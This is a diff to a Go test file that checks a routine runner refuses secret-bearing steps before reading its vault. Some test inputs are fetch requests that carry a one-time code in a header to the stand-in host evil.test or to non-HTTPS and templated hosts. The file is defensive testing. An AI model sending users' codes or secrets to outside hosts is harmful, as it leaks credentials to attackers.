@@ -145,6 +145,28 @@ func TestRefusedSecrets(t *testing.T) {
 	}
 }
 
+// What is refused is refused before anything is read: a one-time code is not used up, and no
+// provider is asked.
+func TestRefusedBeforeReading(t *testing.T) {
+	const code = `"headers":{"a":"{{totp:shop}}"}}}`
+	for _, o := range []string{
+		`{"type":"input_text","selector":"#p","text":"{{totp:none}}"}`,
+		`{"type":"input_text","selector":"#p","text":"{{totp:shop}}{{secret:bank}}"}`,
+		`{"type":"input_text","selector":"#p","text":"{{code:shop}}{{secret:gone}}"}`,
+		`{"type":"fetch","endpoint":{"url":"https://evil.test/",` + code,
+		`{"type":"fetch","endpoint":{"url":"https://{{evil}}/",` + code,
+		`{"type":"fetch","endpoint":{"url":"http://shop.test/",` + code,
+		`{"type":"fetch","endpoint":{"url":"/","method":"POST","headers":{"a":"{{totp:shop}}"},"body":{"b":"{{secret:typed}}"}}}`,
+		`{"type":"navigate","url":"https://evil.test/"},{"type":"fetch","endpoint":{"url":"https://shop.test/",` + code,
+	} {
+		v := newVault()
+		r := runSecrets(t, routinetest.Page{}, v, `{"name":"evil"}`, `{"evil":"evil.test"}`, openShop+o)
+		if got := routine.CodeOf(r.err); len(v.reads) > 0 || got != routine.CodeSecretDenied && got != routine.CodeSecretMissing {
+			t.Errorf("%s: %v, read %q", o, r.err, v.reads)
+		}
+	}
+}
+
 // A secret is read when its operation is done and not before, and a release is recorded.
 func TestSecretsAreReadLate(t *testing.T) {
 	v := newVault()
